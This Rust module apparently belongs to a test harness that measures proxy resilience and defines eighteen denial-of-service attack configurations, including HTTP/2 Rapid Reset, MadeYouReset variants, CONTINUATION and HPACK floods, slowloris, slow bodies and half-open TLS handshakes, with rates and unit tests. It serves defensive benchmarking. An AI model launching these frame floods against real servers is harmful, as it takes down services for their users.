//! Lists the attacks, which are the same for every proxy regardless of its speed.
//!
//! An attack is a number of connections, the data that opens a connection, and units of work that are sent at a fixed
//! rate. The attacker replaces a connection that the proxy closes, also at a limited rate.

use std::time::Duration;

use super::frame::{
    self, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE,
};

/// The protocol of the attacked port and of the other clients, whose latency is measured.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Target {
    /// HTTP/2 without TLS; other clients use the same port.
    Http2,
    /// HTTP/1.1; other clients use the same port.
    Http1,
    /// TLS; other clients use the port of HTTP/1.1, on the same worker.
    Tls,
}

/// How an attacker closes a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Close {
    Fin,
    Reset,
}

/// An attack; see the module documentation.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Description in the list of attacks.
    pub(crate) summary: &'static str,
    pub(crate) target: Target,
    /// Number of concurrent connections.
    pub(crate) connections: usize,
    /// Maximum number of new connections per second.
    pub(crate) opens_per_second: u32,
    /// Returns the data that opens a connection; the argument is the number of the connection.
    pub(crate) opening: fn(u32) -> Vec<u8>,
    /// Units per second over all connections; 0 = the attack consists of the opening data only.
    pub(crate) units_per_second: u32,
    /// Units per write.
    pub(crate) batch: u32,
    /// Appends one unit to the data of a connection; units are numbered from 0.
    pub(crate) unit: fn(u32, &mut Vec<u8>),
    /// Number of units after which a connection is done; 0 = unlimited.
    pub(crate) units_per_connection: u32,
    /// Whether a connection remains open after its last unit.
    pub(crate) stays_open: bool,
    /// Time after which the attacker closes a connection, measured from its opening.
    pub(crate) closes_after: Option<Duration>,
    pub(crate) close: Close,
}

/// Attacks with one stream per unit: 60 streams per connection, which is below the proxies' limits.
const STREAMS: Attack = Attack {
    name: "",
    summary: "",
    target: Target::Http2,
    connections: 20,
    opens_per_second: 500,
    opening: |_| frame::opening_bytes(false),
    units_per_second: 5_000,
    batch: 1,
    unit: |_, _| (),
    units_per_connection: 60,
    stays_open: false,
    closes_after: None,
    close: Close::Fin,
};

/// Attacks with frames that cost the sender almost nothing.
const FRAMES: Attack = Attack {
    connections: 10,
    units_per_second: 50_000,
    batch: 50,
    units_per_connection: 0,
    ..STREAMS
};

/// Slow HTTP/1.1 clients.
const SLOW: Attack = Attack {
    target: Target::Http1,
    connections: 1_000,
    opens_per_second: 2_000,
    units_per_second: 1_000,
    units_per_connection: 0,
    ..STREAMS
};

/// Connections that are abandoned after the opening data.
const ABANDONED: Attack = Attack {
    target: Target::Http1,
    connections: 400,
    opens_per_second: 500,
    opening: |_| b"GET /slow HTTP/1.1\r\nHost: attack.example\r\n\r\n".to_vec(),
    units_per_second: 0,
    closes_after: Some(Duration::from_millis(100)),
    ..STREAMS
};

/// All attacks.
pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "reset",
        summary: "HEADERS and RST_STREAM in one segment (CVE-2023-44487)",
        unit: |number, out| {
            append_request(number, out);
            frame::append_frame(out, RST_STREAM, 0, stream_id(number), &CANCEL.to_be_bytes());
        },
        ..STREAMS
    },
    Attack {
        name: "made-you-reset-overflow",
        summary: "WINDOW_UPDATE that overflows the stream's window (CVE-2025-8671)",
        unit: |number, out| {
            append_request(number, out);
            append_window_update(out, stream_id(number), 0x7fff_ffff);
        },
        ..STREAMS
    },
    Attack {
        name: "made-you-reset-zero",
        summary: "WINDOW_UPDATE of 0 on a stream",
        unit: |number, out| {
            append_request(number, out);
            append_window_update(out, stream_id(number), 0);
        },
        ..STREAMS
    },
    Attack {
        name: "made-you-reset-priority",
        summary: "PRIORITY frames that make a stream depend on itself",
        unit: |number, out| {
            append_request(number, out);
            let mut payload = stream_id(number).to_be_bytes().to_vec();
            payload.push(15);
            frame::append_frame(out, PRIORITY, 0, stream_id(number), &payload);
        },
        ..STREAMS
    },
    Attack {
        name: "made-you-reset-length",
        summary: "DATA longer than content-length",
        unit: |number, out| {
            let block = frame::post_block("/slow", Some("1"));
            frame::append_frame(out, HEADERS, END_HEADERS, stream_id(number), &block);
            frame::append_frame(out, DATA, 0, stream_id(number), b"xx");
        },
        ..STREAMS
    },
    Attack {
        name: "made-you-reset-ended",
        summary: "DATA or HEADERS after END_STREAM",
        unit: |number, out| {
            append_request(number, out);
            if number.is_multiple_of(2) {
                frame::append_frame(out, DATA, 0, stream_id(number), b"x");
            } else {
                append_request(number, out);
            }
        },
        ..STREAMS
    },
    Attack {
        name: "ping",
        summary: "PING frames",
        unit: |number, out| {
            frame::append_frame(out, PING, 0, 0, &u64::from(number).to_be_bytes());
        },
        ..FRAMES
    },
    Attack {
        name: "settings",
        summary: "empty SETTINGS frames",
        unit: |_, out| frame::append_frame(out, SETTINGS, 0, 0, &[]),
        ..FRAMES
    },
    Attack {
        name: "continuation",
        summary: "endless CONTINUATION frames of 1 KiB (CVE-2024-27316 and others)",
        units_per_second: 5_000,
        batch: 1,
        unit: |number, out| {
            if number == 0 {
                frame::append_frame(out, HEADERS, END_STREAM, 1, &frame::get_block("/slow"));
            }
            let mut block = Vec::new();
            frame::append_plain_field(&mut block, "x", 1000);
            frame::append_frame(out, CONTINUATION, 0, 1, &block);
        },
        ..FRAMES
    },
    Attack {
        name: "hpack",
        summary: "4 000 references to a field of 4 000 bytes in each header block",
        units_per_second: 500,
        batch: 1,
        unit: |number, out| {
            let mut block = frame::get_block("/slow");
            if number == 0 {
                frame::append_field_with_indexing(&mut block, 4_000);
            }
            frame::append_references(&mut block, 4_000);
            let flags = END_STREAM | END_HEADERS;
            frame::append_frame(out, HEADERS, flags, stream_id(number), &block);
        },
        ..FRAMES
    },
    Attack {
        name: "empty-data",
        summary: "DATA frames without content",
        unit: |number, out| {
            if number == 0 {
                frame::append_frame(
                    out,
                    HEADERS,
                    END_HEADERS,
                    1,
                    &frame::post_block("/slow", None),
                );
            }
            frame::append_frame(out, DATA, 0, 1, &[]);
        },
        ..FRAMES
    },
    Attack {
        name: "window-update",
        summary: "WINDOW_UPDATE frames that open the connection's window by 1",
        units_per_second: 100_000,
        batch: 100,
        unit: |_, out| append_window_update(out, 0, 1),
        ..FRAMES
    },
    Attack {
        name: "zero-window",
        summary: "requests for 64 MiB each by clients that never open a window",
        connections: 4,
        units_per_second: 2_000,
        opening: |_| frame::opening_bytes(true),
        unit: |number, out| {
            let flags = END_STREAM | END_HEADERS;
            frame::append_frame(
                out,
                HEADERS,
                flags,
                stream_id(number),
                &frame::get_block("/large"),
            );
        },
        units_per_connection: 100,
        stays_open: true,
        ..STREAMS
    },
    Attack {
        name: "slowloris",
        summary: "request heads sent at one field per second",
        opening: |_| b"GET /probe HTTP/1.1\r\nHost: attack.example\r\n".to_vec(),
        unit: |_, out| out.extend(b"X-A: b\r\n"),
        ..SLOW
    },
    Attack {
        name: "slow-body",
        summary: "request bodies sent at one byte per second",
        opening: |_| {
            b"POST /slow HTTP/1.1\r\nHost: attack.example\r\nContent-Length: 1000000\r\n\r\n"
                .to_vec()
        },
        unit: |_, out| out.push(b'x'),
        ..SLOW
    },
    Attack {
        name: "tls-half-open",
        summary: "TLS handshakes that stop after the ClientHello",
        target: Target::Tls,
        connections: 4_000,
        opens_per_second: 500,
        opening: frame::client_hello,
        units_per_second: 0,
        ..STREAMS
    },
    Attack {
        name: "abandoned-fin",
        summary: "GET, then FIN 100 ms later, before the response",
        ..ABANDONED
    },
    Attack {
        name: "abandoned-rst",
        summary: "GET, then a TCP reset 100 ms later, before the response",
        close: Close::Reset,
        ..ABANDONED
    },
];

/// Returns the identifier of a client's stream; streams are numbered from 0.
fn stream_id(number: u32) -> u32 {
    2 * number + 1
}

/// Appends a complete request, to which the server does not respond during the trial.
fn append_request(number: u32, out: &mut Vec<u8>) {
    let flags = END_STREAM | END_HEADERS;
    frame::append_frame(
        out,
        HEADERS,
        flags,
        stream_id(number),
        &frame::get_block("/slow"),
    );
}

fn append_window_update(out: &mut Vec<u8>, stream: u32, increment: u32) {
    frame::append_frame(out, WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::super::frame::FrameReader;
    use super::*;

    #[test]
    fn names_are_unique() {
        let names: BTreeSet<_> = ATTACKS.iter().map(|attack| attack.name).collect();
        assert_eq!(names.len(), ATTACKS.len());
        assert_eq!(names.len(), 18);
    }

    #[test]
    fn http2_units_are_whole_frames() {
        for attack in ATTACKS.iter().filter(|it| it.target == Target::Http2) {
            let mut out = Vec::new();
            (0..4).for_each(|number| (attack.unit)(number, &mut out));
            let mut reader = FrameReader::default();
            reader.feed(&out);
            let lengths: usize = std::iter::from_fn(|| reader.next())
                .map(|frame| 9 + frame.payload.len())
                .sum();
            assert_eq!(lengths, out.len(), "{}", attack.name);
        }
    }

    #[test]
    fn every_attack_has_connections_and_a_rate_only_with_units() {
        for attack in ATTACKS {
            assert!(attack.connections > 0 && attack.opens_per_second > 0);
            assert!(attack.connections <= 4_000, "{}", attack.name);
            let mut out = Vec::new();
            (attack.unit)(0, &mut out);
            assert_eq!(
                attack.units_per_second == 0,
                out.is_empty(),
                "{}",
                attack.name
            );
        }
    }
}
